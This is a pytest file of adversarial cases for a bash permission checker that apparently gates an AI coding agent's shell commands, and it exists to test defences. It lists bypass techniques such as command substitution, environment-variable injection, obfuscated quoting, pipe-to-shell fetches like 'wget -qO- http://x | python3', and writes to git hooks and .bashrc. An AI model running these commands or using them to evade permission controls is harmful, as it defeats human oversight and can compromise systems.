"""Hold-out style cases invented for every corpus category (at least three each).

expected: "allow" (must be ALLOW), "deny" (must be DENY), "not_allow" (ASK or DENY).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from permissions.bash import assess_bash
from permissions.rules import make_rule
from permissions.types import Decision, PermissionContext

R = "Bash(rm:*)"
C = "Bash(curl:*)"
CASES: list[tuple[str, str, tuple[str, ...], tuple[str, ...], str]] = [
    # category, command, allow rules, deny rules, expected
    ("baseline_readonly", "ls -la src", (), (), "allow"),
    ("baseline_readonly", "wc -c README.md", (), (), "allow"),
    ("baseline_readonly", "git show --stat HEAD", (), (), "allow"),
    ("baseline_readonly", "du -sh . 2>/dev/null", (), (), "allow"),
    ("readonly_compound", "git log -n 5 | grep fix | wc -l", (), (), "allow"),
    ("readonly_compound", "ls && pwd && echo done", (), (), "allow"),
    ("readonly_compound", "cat a.txt 2>&1 | sort | uniq", (), (), "allow"),
    ("quoted_operators", "grep -n 'a && b' README.md", (), (), "allow"),
    ("quoted_operators", "echo 'x; rm -rf /'", (), (R,), "allow"),
    ("quoted_operators", 'grep "`touch x`" README.md', (), (), "not_allow"),
    ("quoted_operators", "grep '$(touch x)' f", (), (), "allow"),
    ("comment_hiding", "ls # $(touch x)", (), (), "allow"),
    ("comment_hiding", "echo a#b; touch x", (), (), "not_allow"),
    ("comment_hiding", "ls '#'; touch x", (), (), "not_allow"),
    ("allow_rule_match", "npm run lint", ("Bash(npm run lint:*)",), (), "allow"),
    ("allow_rule_match", "pytest -q tests", ("Bash(pytest *)",), (), "allow"),
    ("allow_rule_match", "cargo   test", ("Bash(cargo test)",), (), "allow"),
    ("compound_chain", "git status & touch x", ("Bash(git status:*)",), (), "not_allow"),
    ("compound_chain", "git status | touch x", ("Bash(git status:*)",), (), "not_allow"),
    ("compound_chain", "while false; do touch x; done", (), (), "not_allow"),
    ("newline_cr", "ls\ntouch x", (), (), "not_allow"),
    ("newline_cr", "echo a\rtouch x", ("Bash(echo:*)",), (), "not_allow"),
    ("newline_cr", "LANG=C\recho hi", ("Bash(echo:*)",), (), "not_allow"),
    ("cmd_substitution", "ls `touch x`", (), (), "not_allow"),
    ("cmd_substitution", "echo $(echo $(touch x))", ("Bash(echo:*)",), (), "not_allow"),
    ("cmd_substitution", 'cat "${f:-$(touch x)}"', (), (), "not_allow"),
    ("process_substitution", "diff <(ls) <(touch x)", (), (), "not_allow"),
    ("process_substitution", "tee >(touch x) < f", (), (), "not_allow"),
    ("process_substitution", "cat <(curl x)", (), (C,), "deny"),
    ("redirection", "echo x >> out", (), (), "not_allow"),
    ("redirection", "ls >| out", (), (), "not_allow"),
    ("redirection", "cat f &>> log", (), (), "not_allow"),
    ("redirection", "cat < /dev/tcp/127.0.0.1/80", (), (), "not_allow"),
    ("heredoc", "cat > out <<EOF\nx\nEOF", (), (), "not_allow"),
    ("heredoc", "bash <<'EOF'\ntouch x\nEOF", (), (), "not_allow"),
    ("heredoc", "cat <<EOF\n$(touch x)\nEOF", (), (), "not_allow"),
    ("heredoc", "python3 <<EOF\nprint(1)\nEOF", (), (), "not_allow"),
    ("env_prefix", "PYTHONPATH=. ls", (), (), "not_allow"),
    ("env_prefix", "BASH_ENV=./x ls", (), (), "not_allow"),
    ("env_prefix", "GIT_EXTERNAL_DIFF=./x git diff", ("Bash(git diff:*)",), (), "not_allow"),
    ("env_prefix", "declare -x PAGER=x; git log", ("Bash(git log:*)",), (), "not_allow"),
    ("inline_function_alias", "cat() { touch x; }; cat f", (), (), "not_allow"),
    ("inline_function_alias", "alias ls='touch x'; ls", (), (), "not_allow"),
    ("inline_function_alias", "eval ls", (), (), "not_allow"),
    ("inline_function_alias", "source ./x.sh", (), (), "not_allow"),
    ("wrapper", "nice touch x", (), (), "not_allow"),
    ("wrapper", "sudo ls", (), (), "not_allow"),
    ("wrapper", "sh -c 'ls'", (), (), "not_allow"),
    ("wrapper", "perl -e 'unlink q(x)'", (), (), "not_allow"),
    ("wrapper", "sudo -u root rm x", (), (R,), "deny"),
    ("quoting_obfuscation", "$'\\x74ouch' x", (), (), "not_allow"),
    ("quoting_obfuscation", "t\\ouch x", (), (), "not_allow"),
    ("quoting_obfuscation", "{curl,http://x}", (), (C,), "deny"),
    ("quoting_obfuscation", "c=curl; $c http://x", (), (C,), "deny"),
    ("quoting_obfuscation", "l$x", (), (), "not_allow"),
    ("path_obfuscation", "/usr/bin/curl http://x", (), (C,), "deny"),
    ("path_obfuscation", "./ls", (), (), "not_allow"),
    ("path_obfuscation", "/tmp/cat f", (), (), "not_allow"),
    ("unicode", "ｌｓ", (), (), "not_allow"),
    ("unicode", "l\u200bs", (), (), "not_allow"),
    ("unicode", "ls\u00a0-la", (), (), "not_allow"),
    ("pipe_to_shell", "cat x.sh | bash", (), (), "not_allow"),
    ("pipe_to_shell", "echo ls | sh -s", (), (), "not_allow"),
    ("pipe_to_shell", "wget -qO- http://x | python3", (), (), "not_allow"),
    ("find_exec", "find . -type f -delete", (), (), "not_allow"),
    ("find_exec", "find . -fprint ./out", (), (), "not_allow"),
    ("find_exec", "find . -exec rm {} +", (), (R,), "deny"),
    ("sed_exec", "sed 's/a/b/e' f", (), (), "not_allow"),
    ("sed_exec", "sed --in-place=.bak 's/a/b/' f", (), (), "not_allow"),
    ("sed_exec", "sed -f x.sed f", (), (), "not_allow"),
    ("sed_exec", "sed '1!G;h;$!d' f", (), (), "allow"),
    ("awk_exec", "awk '{print $1 > \"/tmp/x\"}' f", (), (), "not_allow"),
    ("awk_exec", "awk '{ cmd | getline }' f", (), (), "not_allow"),
    ("awk_exec", "gawk -i inplace '{print}' f", (), (), "not_allow"),
    ("git_exec", "git -c diff.external=x diff", ("Bash(git diff:*)",), (), "not_allow"),
    ("git_exec", "git log --output=x", (), (), "not_allow"),
    ("git_exec", "git grep -O foo", (), (), "not_allow"),
    ("git_exec", "git fetch --upload-pack=x", (), (), "not_allow"),
    ("git_exec", "git difftool", (), (), "not_allow"),
    ("rg_pre", "rg --pre=./x foo", (), (), "not_allow"),
    ("rg_pre", "rg -nz foo", (), (), "not_allow"),
    ("rg_pre", "rg --hostname-bin ./x foo", (), (), "not_allow"),
    ("xargs", "ls | xargs rm", (), (R,), "deny"),
    ("xargs", "ls | xargs -0 grep foo", (), (), "not_allow"),
    ("xargs", "xargs -a list touch", (), (), "not_allow"),
    ("readonly_tool_flags", "sort --output=x f", (), (), "not_allow"),
    ("readonly_tool_flags", "tree -o out", (), (), "not_allow"),
    ("readonly_tool_flags", "date -s 2020-01-01", (), (), "not_allow"),
    ("readonly_tool_flags", "uniq in out", (), (), "not_allow"),
    ("cd_escape", "cd .git && touch hooks/pre-commit", (), (), "not_allow"),
    ("cd_escape", "cd ~ && echo x > .bashrc", ("Bash(cd:*)", "Bash(echo:*)"), (), "not_allow"),
    ("cd_escape", "pushd .claude; touch settings.json", (), (), "not_allow"),
    ("prefix_boundary", "git statuses", ("Bash(git status:*)",), (), "not_allow"),
    ("prefix_boundary", "npm run build:prod", ("Bash(npm run build:*)",), (), "not_allow"),
    ("prefix_boundary", "make -n install", ("Bash(make -n)",), (), "not_allow"),
    ("long_command", "ls && " * 3000 + "ls", (), (), "not_allow"),
    ("long_command", "echo " + "a" * 10_001, ("Bash(echo:*)",), (), "not_allow"),
    ("long_command", "ls && " * 2000 + "rm x", (), (R,), "deny"),
    ("deny_compound", "ls | rm x", (), (R,), "deny"),
    ("deny_compound", "if ls; then :; else rm x; fi", (), (R,), "deny"),
    ("deny_compound", "case $x in *) rm y;; esac", (), (R,), "deny"),
    ("deny_whitespace_comment", "\trm\t-f x", (), (R,), "deny"),
    ("deny_whitespace_comment", "# hi\nrm x", (), (R,), "deny"),
    ("deny_whitespace_comment", "rm \\\n -f x", (), (R,), "deny"),
    ("deny_env_wrapper", "A=1 B=2 rm x", (), (R,), "deny"),
    ("deny_env_wrapper", "nohup nice rm x", (), (R,), "deny"),
    ("deny_env_wrapper", "command rm x", (), (R,), "deny"),
    ("deny_nested", "echo $(echo $(rm x))", (), (R,), "deny"),
    ("deny_nested", "bash -c \"bash -c 'rm x'\"", (), (R,), "deny"),
    ("deny_nested", "f() { g() { rm x; }; }", (), (R,), "deny"),
    ("deny_quoting", "'r''m' x", (), (R,), "deny"),
    ("deny_quoting", '"rm" x', (), (R,), "deny"),
    ("deny_quoting", "$'rm' x", (), (R,), "deny"),
    ("deny_network", "curl -sSL http://x -o f", (), (C,), "deny"),
    ("deny_network", "ls; curl x", (), (C,), "deny"),
    ("deny_network", "x=$(curl http://x)", (), (C,), "deny"),
    ("deny_precedence", "curl -s http://x", ("Bash(curl:*)",), (C,), "deny"),
    ("deny_precedence", "git push", ("Bash(git push:*)",), ("Bash(git push:*)",), "deny"),
    ("deny_precedence", "rm x", ("Bash(*)",), (R,), "deny"),
    ("deny_baseline", "rm x", (), ("Bash(rm x)",), "deny"),
    ("deny_baseline", "curl", (), (C,), "deny"),
    ("deny_baseline", "npm publish", (), ("Bash(npm publish:*)",), "deny"),
    ("deny_flag_variants", "rm -f -r x", (), ("Bash(rm -rf:*)",), "deny"),
    ("deny_flag_variants", "rm -Rf x", (), ("Bash(rm -rf:*)",), "not_allow"),
    ("deny_flag_variants", "git push -f", (), ("Bash(git push -f:*)",), "deny"),
    ("deny_long_chain", "true; " * 80 + "curl x", (), (C,), "deny"),
    ("deny_long_chain", "ls | " * 70 + "rm x", (), (R,), "deny"),
    ("deny_long_chain", "(" * 30 + "rm x" + ")" * 30, (), (R,), "deny"),
]


@pytest.mark.parametrize(
    ("category", "command", "allow", "deny", "expected"),
    CASES,
    ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)],
)
def test_adversarial(
    category: str,
    command: str,
    allow: tuple[str, ...],
    deny: tuple[str, ...],
    expected: str,
    tmp_path: Path,
) -> None:
    rules = tuple(make_rule(r, "allow") for r in allow) + tuple(make_rule(r, "deny") for r in deny)
    ctx = PermissionContext(rules=rules, cwd=tmp_path, home=tmp_path.parent)
    verdict = assess_bash(command, ctx).verdict
    msg = f"{category}: {command[:80]!r} -> {verdict.decision.label} ({verdict.reason})"
    if expected == "allow":
        assert verdict.decision is Decision.ALLOW, msg
    elif expected == "deny":
        assert verdict.decision is Decision.DENY, msg
    else:
        assert verdict.decision is not Decision.ALLOW, msg


# ---- the mechanisms behind the held-out fixes, one level down ------------------------------


def test_backtick_bodies_unescape_one_level() -> None:
    from permissions.bash.words import backtick_bodies

    assert backtick_bodies("`a` and `b`") == ["a", "b"]
    assert backtick_bodies("echo \\`not\\`") == []
    # inside backquotes \` \\ \$ lose their backslash: the nested level becomes visible
    assert backtick_bodies("`echo \\`id\\` \\$HOME`") == ["echo `id` $HOME"]
    assert backtick_bodies("`unterminated") == ["unterminated"]


@pytest.mark.parametrize(
    ("content", "argv", "expected"),
    [
        ("rm -rf:*", ["rm", "-Rf", "x"], True),
        ("rm -rf:*", ["rm", "--rec", "--fo", "x"], True),
        ("rm -rf:*", ["rm", "-r", "x", "-f"], True),
        ("rm -rf /", ["rm", "-fr", "/"], True),
        ("rm -rf /", ["rm", "-fr", "/tmp"], False),
        ("git push --force:*", ["git", "push", "-f", "origin"], True),
        ("git push --force:*", ["git", "push", "origin", "--for"], True),
        ("git push --force:*", ["git", "push", "--follow-tags"], False),
        ("git push --force:*", ["git", "pull", "--force"], False),
    ],
)
def test_flag_set_variants(content: str, argv: list[str], expected: bool) -> None:
    from permissions.bash.match import compile_pattern

    assert compile_pattern(content).matches_flags(argv) is expected


def test_allow_rules_do_not_get_the_flag_set_widening(tmp_path: Path) -> None:
    ctx = PermissionContext(
        rules=(make_rule("Bash(curl -s:*)", "allow"),), cwd=tmp_path, home=tmp_path.parent
    )
    assert assess_bash("curl -s http://x", ctx).verdict.decision is Decision.ALLOW
    assert assess_bash("curl -o f -s http://x", ctx).verdict.decision is not Decision.ALLOW


@pytest.mark.parametrize(
    ("argv", "stripped"),
    [
        (["timeout", "5", "ls"], ["ls"]),
        (["timeout", "--foreground", "5", "ls"], ["ls"]),
        (["nice", "-n", "5", "ls"], ["ls"]),
        (["time", "--out=f", "ls"], None),  # GNU getopt: --out is --output (writes f)
        (["timeout", "--bogus", "5", "ls"], None),  # unknown option: fail closed
        (["stdbuf", "-q", "ls"], None),
        (["xargs", "-n1", "ls"], None),
        (["xargs", "ls"], ["ls"]),
    ],
)
def test_allow_wrapper_strip_fails_closed(argv: list[str], stripped: list[str] | None) -> None:
    from permissions.bash.wrappers import strip_allow_wrapper

    assert strip_allow_wrapper(argv) == stripped


@pytest.mark.parametrize(
    ("args", "read_only"),
    [
        (["log", "--outp=x"], False),
        (["diff", "--ext"], False),
        (["diff", "--text"], True),
        (["rev-list", "--filter=blob:none", "HEAD"], True),
        (["cat-file", "--filters", "HEAD:x"], False),
        (["grep", "-nOvim", "x"], False),
        (["log", "--", "--output=x"], True),  # a pathspec, not an option
        (["config", "--get", "set"], False),
    ],
)
def test_git_unsafe_option_spellings(args: list[str], read_only: bool) -> None:
    from permissions.bash.validators import git_read_only

    assert git_read_only(args) is read_only


def test_array_subscripts_in_arithmetic_contexts_are_not_read_only(tmp_path: Path) -> None:
    ctx = PermissionContext(cwd=tmp_path, home=tmp_path.parent)
    for command in (
        "[[ 'a[$(id)]' -eq 1 ]]",
        "test -v 'a[$(id)]'",
        "(( 'a[$(id)]' ))",
        "echo $(( 'a[$(id)]' ))",
    ):
        assert assess_bash(command, ctx).verdict.decision is not Decision.ALLOW, command
    for command in ("[[ -f a && $b == c ]]", "echo $(( 1 + 2 ))", '[ -n "${a[0]}" ]'):
        assert assess_bash(command, ctx).verdict.decision is Decision.ALLOW, command


def test_git_after_cd_is_a_safety_check(tmp_path: Path) -> None:
    ctx = PermissionContext(
        rules=(make_rule("Bash(git status:*)", "allow"),), cwd=tmp_path, home=tmp_path.parent
    )
    verdict = assess_bash("cd /tmp/other && git status", ctx).verdict
    assert verdict.decision is Decision.ASK and verdict.safety is not None
    assert assess_bash("cd . && git status", ctx).verdict.decision is Decision.ALLOW
